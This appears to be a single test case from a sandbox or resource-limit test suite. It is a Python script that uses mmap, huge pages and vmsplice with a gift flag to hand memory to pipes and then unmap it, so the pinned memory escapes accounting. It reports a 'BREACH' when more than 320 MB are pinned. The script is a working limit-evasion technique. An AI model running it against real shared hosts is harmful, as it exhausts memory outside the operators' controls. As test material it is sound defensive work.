# /// attack
# title = "hands huge pages to a pipe by vmsplice, and unmaps them: they stay, and count nowhere"
# ///

# %%
import ctypes
import fcntl
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.vmsplice.restype = ctypes.c_ssize_t
MB = 1 << 20


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


pipes = []
pinned = 0
for _ in range(2):
    reader, writer = os.pipe()
    pipes.append((reader, writer))
    try:
        fcntl.fcntl(writer, 1031, MB)  # F_SETPIPE_SZ
    except OSError:
        pass
    for _ in range(90):
        room = libc.mmap(None, 4 * MB, 3, 0x22, -1, 0)
        if room in (None, ctypes.c_void_p(-1).value):
            break
        start = (room + 2 * MB - 1) & ~(2 * MB - 1)
        libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(2 * MB), 14)  # MADV_HUGEPAGE
        ctypes.memset(start, 1, 4096)
        piece = Piece(start, 4096)
        taken = libc.vmsplice(writer, ctypes.byref(piece), ctypes.c_ulong(1), ctypes.c_uint(2))
        libc.munmap(ctypes.c_void_p(room), ctypes.c_size_t(4 * MB))
        if taken <= 0:
            break
        pinned += 2
if pinned > 320:
    raise SystemError(f"BREACH: {pinned} MB are pinned, and 320 MB are the limit")
